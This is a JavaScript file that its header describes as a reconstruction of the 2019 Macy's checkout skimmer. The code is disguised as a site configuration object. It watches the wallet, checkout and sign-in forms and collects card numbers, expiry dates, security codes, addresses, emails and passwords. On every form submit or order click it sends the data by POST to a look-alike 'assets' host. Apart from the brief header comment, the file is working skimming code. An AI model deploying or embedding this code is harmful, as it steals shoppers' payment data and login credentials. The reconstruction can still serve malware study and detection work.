// macys-wallet, written from Macy's breach notification (November 2019) and the public
// analyses of the Macy's skimmer that followed (RiskIQ and others, 2019): a first-party
// configuration script of the shop was modified; the added code carries a list of the
// checkout and "My Wallet" page forms and of the field names to take on each (card, expiry,
// security code, name, address, phone, e-mail), and when those forms are submitted it sends
// the values as JSON in an XMLHttpRequest POST to a look-alike "assets" domain.
window.opsConfigs = window.opsConfigs || {
  env: "prod", locale: "en-US", features: { wallet: true, expressCheckout: true }
};
(function (cfg) {
  var pages = [
    { path: /\/my-account\/wallet/i, form: "#wallet-add-card", fields: ["cardNumber", "expMonth", "expYear", "cardHolder", "securityCode"] },
    { path: /\/checkout\/(payment|rc)/i, form: "#rc-payment-form", fields: ["creditCardNumber", "expirationMonth", "expirationYear", "securityCode", "firstName", "lastName", "address1", "city", "state", "zipCode", "phone", "email"] },
    { path: /\/account\/signin/i, form: "#sign-in-form", fields: ["email", "password"] }
  ];
  var page = null;
  for (var i = 0; i < pages.length; i++) if (pages[i].path.test(location.pathname)) page = pages[i];
  if (!page) return;
  function collect(form) {
    var data = { p: location.pathname, t: new Date().getTime() };
    page.fields.forEach(function (n) {
      var el = form.querySelector("[name='" + n + "'], #" + n);
      if (el && el.value) data[n] = el.value;
    });
    return data;
  }
  function ship(data) {
    var x = new XMLHttpRequest();
    x.open("POST", "https://www.northwind-outfittersassets.example/api/v1/config/ops", true);
    x.setRequestHeader("Content-Type", "application/json");
    x.withCredentials = false;
    x.send(JSON.stringify({ cfg: cfg.env, payload: data }));
  }
  document.addEventListener("submit", function (e) {
    var f = e.target;
    if (f && f.matches && f.matches(page.form)) ship(collect(f));
  }, true);
  document.addEventListener("click", function (e) {
    var b = e.target.closest && e.target.closest("button[type=submit], #rc-place-order");
    if (!b) return;
    var f = document.querySelector(page.form);
    if (f) ship(collect(f));
  }, true);
})(window.opsConfigs);
